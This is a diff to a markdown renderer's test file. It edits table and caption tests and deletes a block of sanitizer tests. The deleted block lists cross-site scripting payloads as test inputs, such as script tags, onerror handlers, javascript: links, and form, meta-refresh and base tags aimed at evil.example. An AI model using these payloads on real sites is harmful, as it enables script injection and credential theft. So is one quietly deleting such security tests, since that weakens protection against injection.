@@ -20,9 +20,8 @@ describe("what an office writes", () => {
   test("headings start below the page's own", () => {
     expect(renderMarkdown("# One\n\n## Two\n\n### Three")).toBe("<h2>One</h2>\n<h2>Two</h2>\n<h3>Three</h3>\n");
   });
-  test("a table has a caption, scoped heads, and numbers to the right", () => {
+  test("a table has scoped heads, and numbers to the right", () => {
     const html = renderMarkdown("| Class | Fee |\n| --- | ---: |\n| I | 8,100 |");
-    expect(html).toContain('<caption class="visually-hidden">Class, Fee</caption>');
     expect(html).toContain('<th scope="col">Class</th><th scope="col" class="table__number">Fee</th>');
     expect(html).toContain('<th scope="row">I</th><td class="table__number" data-head="Fee">8,100</td>');
   });
@@ -45,79 +44,13 @@ describe("what an office writes", () => {
   test.each(["https://other.example/", "http://other.example/", "//other.example/"])("%s is another site", (href) => {
     expect(renderMarkdown(`[here](${href})`)).toContain('rel="noopener external"');
   });
-  test("an empty text is nothing", () => {
-    expect(renderMarkdown("")).toBe("");
-  });
-});
-
-describe("what the cleaner removes", () => {
-  test.each([
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</script>",
-    "Text <script>alert(1)</script> in a line",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    "<svg onload=alert(1)><animate onbegin=alert(1)>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<style>body{display:none}</style>",
-    '<p style="position:fixed;inset:0">over all</p>',
-    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
-    '<form action="//evil.example"><input name=otp></form>',
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    '<meta http-equiv="refresh" content="0;url=//evil.example">',
-    '<base href="//evil.example/">',
-    "<!--><script>alert(1)</script>-->",
-    "<details open ontoggle=alert(1)>",
-    "# <img src=x onerror=alert(1)>",
-    "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |",
-    '| "><script>alert(1)</script> | b |\n| --- | --- |\n| a | c |',
-    "> <video><source onerror=alert(1)></video>",
-    "`<script>alert(1)</script>`",
-    "```\n<script>alert(1)</script>\n```",
-    "![a picture](x.jpg)",
-    '![x](x "onerror=alert(1)")',
-    '![" onerror="alert(1)](x)',
-    '[x](/a "onmouseover=alert(1)")',
-    '[x](/a"onmouseover="alert(1))',
-    "[x](<javascript:alert(1)>)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-  ])("%s", (hostile) => {
-    const html = renderMarkdown(hostile);
-    const tags = html.match(/<[^>]*>/g) ?? [];
-    expect(
-      tags.filter(
-        (tag) =>
-          !/^<\/?(h[2-4]|p|ul|ol|li|strong|em|a|blockquote|code|div|table|caption|thead|tbody|tr|t[hd])\b/.test(tag),
-      ),
-    ).toEqual([]);
-    expect(tags.filter((tag) => /\s(on\w+|style|src|srcdoc|id|name)\s*=/i.test(withoutValues(tag)))).toEqual([]);
-    expect(tags.filter((tag) => /href="(?!\/|#|https?:|mailto:|tel:)/i.test(tag))).toEqual([]);
-  });
-
-  test.each([
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java&#115;cript:alert(1)",
-    "javascript&colon;alert(1)",
-    "&#x6A;avascript:alert(1)",
-    "\u0001javascript:alert(1)",
-    "java\tscript:alert(1)",
-    "vbscript:msgbox(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "file:///etc/passwd",
-    "blob:x",
-  ])("a link to %j leads nowhere", (address) => {
-    const href = /href="([^"]*)"/.exec(renderMarkdown(`[x](${address})`))?.[1];
-    expect(href ?? "/").toMatch(/^\//);
-  });
-
   test("raw HTML is shown as text", () => {
     expect(renderMarkdown("<b>bold</b> & <i>more</i>")).toContain(
       "&lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;more&lt;/i&gt;",
     );
+  });
+  test("an empty text is nothing", () => {
+    expect(renderMarkdown("")).toBe("");
   });
 });
 
@@ -125,19 +58,11 @@ const table = "| When | What |\n| --- | --- |\n| May | Tests |\n";
 const captions = (markdown: string) =>
   [...renderMarkdown(markdown).matchAll(/<caption[^>]*>(.*?)<\/caption>/g)].map(([, words]) => words);
 
-test("a table has the heading above it as caption; its head and first cells are scoped", () => {
-  const html = renderMarkdown(`## Leave & **tests**\n\nWords.\n\n${table}`);
-  expect(html).toContain('<caption class="visually-hidden">Leave &amp; tests</caption>');
-  expect(html).toContain('<th scope="col">When</th>');
-  expect(html).toContain('<th scope="row">May</th>');
+test("a table has the heading above it as caption", () => {
+  expect(captions(`## Leave & **tests**\n\nWords.\n\n${table}`)).toEqual(["Leave &amp; tests"]);
 });
 
 test("without a heading, and for a second table under it, the caption is the column names", () => {
   expect(captions(table)).toEqual(["When, What"]);
   expect(captions(`## Leave\n\n${table}\nWords.\n\n${table}`)).toEqual(["Leave", "When, What"]);
 });
-
-/** Empties the attribute values of a tag, so that only names remain. */
-function withoutValues(tag: string): string {
-  return tag.replaceAll(/"[^"]*"/g, '""');
-}
